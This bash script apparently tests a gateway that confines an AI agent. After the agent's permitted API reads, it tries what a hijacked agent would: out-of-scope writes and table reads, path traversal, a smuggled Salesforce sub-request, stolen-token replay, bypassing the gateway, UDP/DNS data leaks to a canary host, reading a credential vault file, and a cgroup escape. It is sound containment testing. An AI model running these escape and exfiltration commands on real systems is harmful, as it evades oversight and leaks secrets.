#!/usr/bin/env bash
# SPDX-FileCopyrightText: the Bailiwick authors
# SPDX-License-Identifier: Apache-2.0
#
# A small agent with real tools: curl for HTTP, openssl for the proof key. It does its job and then
# everything that a hijacked agent would try. Each step prints one line:
#   <step> TAB <HTTP status or exit status> TAB <what it saw>
# Whether that is the expected outcome is for others to judge.
set -u

gateway=$1   # the one address that it may reach
upstream=$2  # the SaaS behind the gateway: knowing the address must not help
canary=$3    # a UDP port on which somebody outside waits for leaked data
vault=$4     # the file with the stored credential
incident=$5  # sys_id of an incident

token=$(cat token)
table=$gateway/servicenow/api/now/table

b64url() { openssl base64 -A | tr '+/' '-_' | tr -d '='; }

# A DPoP proof (RFC 9449 §4.2), signed with the key in file $1 whose public half is in $1.jwk.
proof() { # key method url token
  local header payload unsigned
  header=$(printf '{"typ":"dpop+jwt","alg":"EdDSA","jwk":%s}' "$(cat "$1.jwk")" | b64url)
  payload=$(printf '{"jti":"%s","htm":"%s","htu":"%s","iat":%s,"ath":"%s"}' \
    "$(openssl rand -hex 16)" "$2" "${3%%\?*}" "$(date +%s)" \
    "$(printf %s "$4" | openssl dgst -sha256 -binary | b64url)" | b64url)
  unsigned=$header.$payload
  printf %s "$unsigned" > unsigned
  printf %s.%s "$unsigned" "$(openssl pkeyutl -sign -inkey "$1" -rawin -in unsigned | b64url)"
}

# One call through the gateway; prints the status and the body on one line.
call() { # step key method url [curl options]
  local step=$1 key=$2 method=$3 url=$4 status
  shift 4
  status=$(curl -sS -g --max-time 20 -o body -w '%{http_code}' -X "$method" "$url" \
    -H "Authorization: DPoP $token" -H "DPoP: $(proof "$key" "$method" "$url" "$token")" \
    -H 'Accept: application/json' "$@" 2>error) || status="curl exit $?"
  printf '%s\t%s\t%s\n' "$step" "$status" "$(cat body error 2>/dev/null | tr '\n\t' '  ' | cut -c1-400)"
  : > body
  : > error
}

# One attempt at something that the kernel should deny; prints the exit status and the message.
try() { # step command…
  local step=$1 said status
  shift
  said=$("$@" 2>&1)
  status=$?
  printf '%s\t%s\t%s\n' "$step" "$status" "$(printf %s "$said" | tr '\n\t' '  ' | cut -c1-200)"
}

# Its job.
call read key GET "$table/incident/$incident?sysparm_fields=number,short_description,state"
call workers key GET "$gateway/workday/ccx/api/v1/acme/workers?limit=2"

# More than it was asked to do.
call update key PATCH "$table/incident/$incident" \
  -H 'Content-Type: application/json' --data '{"state":"6"}'
call dotwalk key GET "$table/incident?sysparm_fields=number,caller_id.email"
call other-table key GET "$table/sys_user?sysparm_fields=user_name"
call path-game key GET "$gateway/servicenow/api/now/table/incident/%2e%2e/sys_user" --path-as-is

# Three Salesforce calls in one. It may do the first two; the third reads users.
sobjects=/services/data/v66.0/sobjects
call composite key POST "$gateway/salesforce/services/data/v66.0/composite" \
  -H 'Content-Type: application/json' --data '{"compositeRequest": [
    {"method": "GET", "referenceId": "account",
     "url": "'"$sobjects"'/Account/001000000000001AAA?fields=Name"},
    {"method": "PATCH", "referenceId": "case",
     "url": "'"$sobjects"'/Case/500000000000001AAA", "body": {"Status": "Working"}},
    {"method": "GET", "referenceId": "user",
     "url": "'"$sobjects"'/User/005000000000001AAA?fields=Email"}]}'

# A thief has the token, but not the key that it is bound to.
call stolen stolen-key GET "$table/incident/$incident"

# Around the gateway.
try direct curl -sS --max-time 5 "$upstream/api/now/table/incident"
try udp bash -c "echo 'INC0010001 is leaking' > /dev/udp/${canary/://}"
try dns bash -c "echo leak > /dev/udp/192.0.2.53/53"
try vault cat "$vault"
try escape bash -c 'echo 0 > /sys/fs/cgroup/unified/cgroup.procs || echo 0 > /sys/fs/cgroup/cgroup.procs'

exit 7 # so that the caller can see whose exit status comes out
